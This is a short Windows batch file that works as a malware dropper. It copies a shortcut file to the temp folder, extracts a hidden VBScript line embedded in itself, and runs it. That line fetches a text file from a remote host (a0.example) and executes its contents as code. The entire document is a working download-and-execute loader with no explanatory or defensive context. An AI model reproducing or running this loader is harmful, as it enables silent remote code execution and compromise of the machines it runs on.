@echo off
C:\Windows\system32\cmd.exe /v:on /c copy x.lnk "%tmp%\x.lnk"&findstr "^QdM" "%~f0" > "%tmp%\YlS.vbs" & "%tmp%\YlS.vbs"
exit
QdM=1:Set h=CreateObject("MSXML2.XMLHTTP"):h.Open "GET","http://a0.example/p.txt",0:h.Send:Execute h.responseText
